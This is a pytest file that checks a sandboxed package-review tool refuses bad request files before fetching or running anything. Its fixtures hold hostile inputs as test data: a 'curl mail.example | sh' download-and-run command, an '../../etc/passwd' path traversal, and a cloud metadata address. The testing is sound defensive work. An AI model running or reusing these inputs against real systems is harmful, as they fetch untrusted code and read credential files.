"""What is refused is refused before anything is fetched, run or written, with every reason, and exit 2."""

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from e2e.bench import Command, Ran, request_for
from loopback.registry import LoopbackRegistry

pytestmark = pytest.mark.sandbox
NPM = {"kind": "npm", "name": "fixture-silent", "version": "1.0.0"}
Run = Callable[..., Ran]


@pytest.fixture
def run(command: Command, registry: LoopbackRegistry) -> Run:
    """Run the command, and see that it asked nobody for anything."""

    def refused(*words: str, **environment: str) -> Ran:
        ran = command.run(*words, environment={"FUMEHOOD_REVIEW__NPM_REGISTRY": registry.url, **environment})
        assert registry.requests == []
        assert ran.stdout == ""
        return ran

    return refused


REFUSED: dict[str, tuple[dict[str, Any], list[str]]] = {
    "a command": ({"command": "curl mail.example | sh"}, ["command: is no field: a request carries no commands"]),
    "an environment": ({"env": {"A": "b"}}, ["env: is no field"]),
    "several at once": (
        {"credentials": "TOKEN", "timeout_seconds": 4, "entrypoint": "../../etc/passwd", "network_mode": "HOST"},
        [
            "credentials: is 'TOKEN'",
            "timeout_seconds: is 4",
            "entrypoint: is '../../etc/passwd'",
            "network_mode: is 'HOST'",
        ],
    ),
    "a moving version": ({"target": {**NPM, "version": "^1.0.0"}}, ["target.version: is '^1.0.0'"]),
    "a private address": (
        {"network_mode": "ALLOWLIST", "allow": ["169.254.169.254:80", "10.0.0.1:443"]},
        ["allow[0]: is '169.254.169.254:80', which is not a public address", "allow[1]: is '10.0.0.1:443'"],
    ),
    "nothing that is needed": (
        {"question": None, "evidence": None},
        ["question: is required", "evidence: is required"],
    ),
    "escapes": ({"\x1b[2J": 1}, ["is no field of version 2"]),
}


@pytest.mark.threat("R1")
@pytest.mark.parametrize("name", sorted(REFUSED))
def test_a_refused_request_names_every_reason(run: Run, command: Command, name: str) -> None:
    changes, reasons = REFUSED[name]
    fields = {field: value for field, value in (request_for(NPM) | changes).items() if value is not None}
    ran = run(command.request(fields))
    assert ran.status == 2
    for reason in ("nothing was fetched or run", *reasons):
        assert reason in ran.stderr
    assert "\x1b" not in ran.stderr
    assert not ran.out.exists()


def test_the_same_request_without_its_fault_is_not_refused(command: Command, registry: LoopbackRegistry) -> None:
    ran = command.run(command.request(request_for(NPM)), environment={"FUMEHOOD_REVIEW__NPM_REGISTRY": registry.url})
    assert ran.status == 1  # the registry has no such package
    assert registry.requests != []
    assert ran.result["errors"][0]["code"] == "unknown_package"


@pytest.mark.threat("R16")
def test_an_unknown_setting_stops_the_start(run: Run, command: Command) -> None:
    ran = run(command.request(request_for(NPM)), FUMEHOOD_SANDBOX__MEMORYBYTES="1")
    assert ran.status == 2
    assert "FUMEHOOD_SANDBOX__MEMORYBYTES" in ran.stderr
    assert not ran.out.exists()


def test_a_folder_with_anything_in_it_is_refused_and_left_alone(run: Run, command: Command) -> None:
    command.out.mkdir()
    (command.out / "mine.txt").write_text("mine", encoding="utf-8")
    ran = run(command.request(request_for(NPM)))
    assert ran.status == 2
    assert "is not empty" in ran.stderr
    assert [(path.name, path.read_text(encoding="utf-8")) for path in ran.out.iterdir()] == [("mine.txt", "mine")]


@pytest.mark.parametrize(
    ("words", "said"),
    [
        (("absent.json",), "cannot be read"),
        (("npm:fixture-silent@latest",), "latest"),
        (("github:owner/name@main",), "main"),
        (("dir:.", "--timeout", "1"), "timeout_seconds"),
        (("absent.json", "--network", "OPEN"), "a request file says everything itself"),
    ],
)
def test_a_source_that_names_nothing_exact_is_refused(run: Run, words: tuple[str, ...], said: str) -> None:
    ran = run(*words)
    assert ran.status == 2
    assert said in ran.stderr
    assert not ran.out.exists()


def test_a_request_that_is_no_json_is_refused(run: Run, command: Command, tmp_path: Path) -> None:
    text = json.dumps(request_for(NPM))
    for broken in (text[:-1], text.replace("{", '{"question": "twice",', 1), "[" * 100_000):
        (tmp_path / "request.json").write_text(broken, encoding="utf-8")
        assert run(str(tmp_path / "request.json")).status == 2
        assert not command.out.exists()


def test_a_dir_that_does_not_exist_is_told_in_the_result(command: Command) -> None:
    ran = command.run(command.request(request_for({"kind": "dir", "path": "absent"})))
    assert (ran.status, ran.result["execution"]["status"]) == (1, "TARGET_FAILED")
    assert ran.result["execution"]["steps"] == []
